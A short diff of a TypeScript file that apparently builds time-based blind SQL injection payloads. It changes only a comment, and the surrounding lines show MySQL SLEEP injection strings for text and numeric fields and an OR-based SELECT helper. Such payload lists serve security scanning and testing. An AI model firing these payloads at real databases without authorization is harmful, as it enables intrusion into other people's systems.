@@ -12,7 +12,7 @@ const joinedByOr = (text: string, s: number): string => `${text}' OR (SELECT 1 F
 
 type Payload = readonly [engine: string, of: (text: string, seconds: number) => string]
 
-/** Each makes one family of databases sleep, from within a text or a number. */
+/** Each payload makes one family of databases sleep, within a text or a number. */
 const payloads: readonly Payload[] = [
   ['MySQL', (text, s) => `${text}' AND (SELECT 1 FROM (SELECT SLEEP(${s}))x)-- -`],
   ['MySQL', (text, s) => `${text} AND (SELECT 1 FROM (SELECT SLEEP(${s}))x)-- -`],
